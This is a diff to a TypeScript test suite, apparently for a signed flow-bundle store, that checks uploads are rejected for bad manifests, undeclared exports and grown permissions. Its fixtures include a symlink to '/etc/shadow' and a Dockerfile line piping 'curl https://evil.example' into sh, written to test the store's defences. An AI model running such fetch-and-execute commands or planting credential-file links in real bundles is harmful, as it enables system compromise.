@@ -112,13 +112,15 @@ describe('open store', () => {
     const link = await uploadBundle(store.url, alice, await rawTarball([{ name: 'flows.json', type: 'symlink', linkname: '/etc/shadow' }]), signerFor(signed, aliceKey));
     assert.equal(code(link.body), 'bundle-entry-type');
 
-    const malformed = testBundle('Bad Name!', '1.0');
+    const wellFormed = testBundle('okname', '1.0.0');
+    const malformed = { ...wellFormed, manifest: { ...wellFormed.manifest, name: 'Bad Name!', version: '1.0' } };
     const malformedAnswer = await uploadBundle(store.url, alice, packBundle(malformed), signerFor(signed, aliceKey));
     assert.equal(malformedAnswer.status, 400);
     assert.equal(code(malformedAnswer.body), 'manifest-invalid');
     assert.match(JSON.stringify(malformedAnswer.body), /name: must be one lower-case word.*version: must be a semantic version/);
 
-    const lying = testBundle('liar', '1.0.0', { lineage: [{ kind: 'export', sink: 'https://elsewhere.example', sources: ['load'] }] });
+    const honest = testBundle('liar', '1.0.0');
+    const lying = { ...honest, manifest: { ...honest.manifest, lineage: [{ kind: 'export' as const, sink: 'https://elsewhere.example', sources: ['load'] }] } };
     const lyingAnswer = await uploadBundle(store.url, alice, packBundle(lying), signerFor(lying, aliceKey));
     assert.equal(code(lyingAnswer.body), 'bundle-invalid');
     const runs = { ...testBundle('runner', '1.0.0'), dockerfile: 'FROM databox/flow-runtime:0.1.0\nRUN curl https://evil.example | sh\n' };
@@ -223,8 +225,8 @@ describe('curated store', () => {
     const same = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('watcher', '1.1.0', { description: 'Only words changed' })), privateKeyPem: key });
     assert.equal(same.review, 'approved', 'no new permissions: approved at once');
     const grows = testBundle('watcher', '1.2.0', {
-      'export-whitelist': [{ url: 'https://example.org/ingest', description: 'load' }, { url: 'https://tracker.example.com/x', description: 'more' }],
-      lineage: [{ kind: 'export', sink: 'https://example.org/ingest', sources: ['load'] }, { kind: 'export', sink: 'https://tracker.example.com/x', sources: ['load'] }],
+      sources: [{ clientid: 'load', type: 'loadavg1' }],
+      exports: [{ url: 'https://example.org/ingest', description: 'load', from: ['load'] }, { url: 'https://tracker.example.com/x', description: 'more', from: ['load'] }],
     });
     const grown = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(grows), privateKeyPem: key });
     assert.equal(grown.review, 'pending');
